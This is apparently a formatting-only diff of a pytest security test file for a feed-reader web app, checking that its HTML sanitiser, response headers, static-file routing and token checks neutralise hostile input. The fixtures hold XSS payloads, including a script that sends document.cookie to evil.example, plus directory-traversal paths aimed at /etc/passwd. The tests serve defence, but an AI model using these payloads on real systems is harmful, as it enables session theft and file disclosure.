@@ -24,15 +24,19 @@ ATOM = "http://www.w3.org/2005/Atom"
 EVIL_TITLE = 'Evil <script>alert("t")</script><img src=x onerror=alert(1)> "title"'
 EVIL_NAME = '<b onmouseover=alert(2)>Evil Feed</b><script>alert("n")</script>'
 EVIL_LINK = "javascript:alert(3)//https://evil.example/story"
-EVIL_HTML = ('<p onclick="alert(4)">A harbour crane collapsed on Tuesday, injuring no one but '
-             'closing the port for a day while engineers inspected the other cranes.</p>'
-             '<script>document.location="https://evil.example/?c="+document.cookie</script>'
-             '<p><a href="javascript:alert(5)">click</a> <img src="x" onerror="alert(6)">'
-             '<iframe src="https://evil.example/"></iframe><svg onload="alert(7)"></svg>'
-             '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p>'
-             '<style>body{display:none}</style>')
-EVIL_TEXT = ("A harbour crane collapsed on Tuesday, injuring no one but closing the port for a "
-             "day while engineers inspected the other cranes.\nclick")
+EVIL_HTML = (
+    '<p onclick="alert(4)">A harbour crane collapsed on Tuesday, injuring no one but '
+    "closing the port for a day while engineers inspected the other cranes.</p>"
+    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
+    '<p><a href="javascript:alert(5)">click</a> <img src="x" onerror="alert(6)">'
+    '<iframe src="https://evil.example/"></iframe><svg onload="alert(7)"></svg>'
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p>'
+    "<style>body{display:none}</style>"
+)
+EVIL_TEXT = (
+    "A harbour crane collapsed on Tuesday, injuring no one but closing the port for a "
+    "day while engineers inspected the other cranes.\nclick"
+)
 
 
 class _Markup(HTMLParser):
@@ -68,13 +72,30 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClie
     storage.upgrade()
     published = datetime(2026, 11, 20, 8, tzinfo=UTC)
     for n in (1, 2):
-        feed, _ = storage.add_feed(FeedSpec(url=f"https://evil{n}.example/feed.xml",
-                                            name=f"{EVIL_NAME} {n}", group="<i>grp</i>"))
-        storage.save_items(feed.id, [CleanItem(
-            entry_id=f"evil-{n}", guid=f"evil-{n}", link=EVIL_LINK, canonical_link=EVIL_LINK,
-            title=f"{EVIL_TITLE} {n}", author='<script>alert("a")</script>',
-            published=published, updated=None, content_html=EVIL_HTML, text=EVIL_TEXT,
-            is_summary=False, revision=f"r{n}")])
+        feed, _ = storage.add_feed(
+            FeedSpec(
+                url=f"https://evil{n}.example/feed.xml", name=f"{EVIL_NAME} {n}", group="<i>grp</i>"
+            )
+        )
+        storage.save_items(
+            feed.id,
+            [
+                CleanItem(
+                    entry_id=f"evil-{n}",
+                    guid=f"evil-{n}",
+                    link=EVIL_LINK,
+                    canonical_link=EVIL_LINK,
+                    title=f"{EVIL_TITLE} {n}",
+                    author='<script>alert("a")</script>',
+                    published=published,
+                    updated=None,
+                    content_html=EVIL_HTML,
+                    text=EVIL_TEXT,
+                    is_summary=False,
+                    revision=f"r{n}",
+                )
+            ],
+        )
     settings = settings_from_mapping({"database": url}, None)
     Pipeline(storage, settings).start()  # decides the stored items: one cluster
     clusters = storage.list_clusters(min_size=2)
@@ -106,8 +127,12 @@ def test_xml_feeds_carry_no_live_markup(hostile: tuple[TestClient, int], path: s
     # own sanitised version, so our sanitiser is what is tested).
     root = ET.fromstring(body)
     entries = [el for el in root.iter() if el.tag in ("item", f"{{{ATOM}}}entry")]
-    contents = [el.text or "" for entry_el in entries for el in entry_el
-                if el.tag in ("description", f"{{{ATOM}}}content")]
+    contents = [
+        el.text or ""
+        for entry_el in entries
+        for el in entry_el
+        if el.tag in ("description", f"{{{ATOM}}}content")
+    ]
     assert contents and all(contents)
     for content in contents:
         assert_harmless(content)
@@ -136,11 +161,19 @@ def test_every_response_forbids_scripts_and_framing(hostile: tuple[TestClient, i
         assert headers["x-frame-options"] == "DENY"
 
 
-@pytest.mark.parametrize("path", [
-    "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py",
-    "/static/%2e%2e/%2e%2e/storage/store.py", "/static//etc/passwd", "/static/../../../etc/passwd",
-    "/clusters/../../etc/passwd", "/static/style.css/..%2f..%2fapp.py",
-])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/static/../app.py",
+        "/static/%2e%2e/app.py",
+        "/static/..%2fapp.py",
+        "/static/%2e%2e/%2e%2e/storage/store.py",
+        "/static//etc/passwd",
+        "/static/../../../etc/passwd",
+        "/clusters/../../etc/passwd",
+        "/static/style.css/..%2f..%2fapp.py",
+    ],
+)
 def test_no_directory_traversal(hostile: tuple[TestClient, int], path: str) -> None:
     client, _ = hostile
     response = client.get(path)
@@ -165,8 +198,13 @@ def test_writes_need_the_right_token(tmp_path: Path) -> None:
     storage.upgrade()
     settings = settings_from_mapping({"database": url, "server": {"token": "s3cret"}}, None)
     client = TestClient(create_app(storage, settings))
-    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": "Basic s3cret"},
-                    {"Authorization": "s3cret"}, {"Authorization": "Bearer s3cret2"}):
+    for headers in (
+        {},
+        {"Authorization": "Bearer wrong"},
+        {"Authorization": "Basic s3cret"},
+        {"Authorization": "s3cret"},
+        {"Authorization": "Bearer s3cret2"},
+    ):
         response = client.post("/api/items/1/split", headers=headers)
         assert response.status_code == 401, headers
         assert response.headers["www-authenticate"].startswith("Bearer")
